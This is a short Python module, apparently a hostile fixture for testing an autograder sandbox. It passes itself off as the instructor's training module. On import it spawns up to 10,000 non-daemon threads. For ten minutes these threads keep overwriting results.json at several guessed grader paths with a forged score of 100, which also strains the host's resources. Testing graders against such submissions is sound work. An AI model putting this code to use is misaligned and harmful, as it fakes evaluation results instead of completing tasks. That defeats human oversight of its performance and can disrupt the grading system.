"""At import, starts threads until the limit says no; they sleep and keep trying to overwrite
results files at guessed paths for ten minutes. Otherwise the instructor's module.
"""

import json
import os
import threading
import time

from ._honest_train import *  # noqa: F403

# -- the attack ----------------------------------------------------------------------

MARKER = "nnkit-hostile-threads"
GUESSES = [
    "results.json",
    "/autograder/results/results.json",
    f"/proc/{os.getppid()}/cwd/results.json",
    f"/tmp/{MARKER}.marker",
]


def _pester():
    deadline = time.time() + 600
    while time.time() < deadline:
        for path in GUESSES:
            try:
                with open(path, "w") as fh:
                    json.dump({"score": 100.0, "output": MARKER}, fh)
            except OSError:
                pass
        time.sleep(0.05)


THREADS = []
threading.stack_size(256 * 1024)
try:
    for _ in range(10_000):
        _thread = threading.Thread(target=_pester, daemon=False)
        _thread.start()
        THREADS.append(_thread)
except Exception:
    pass
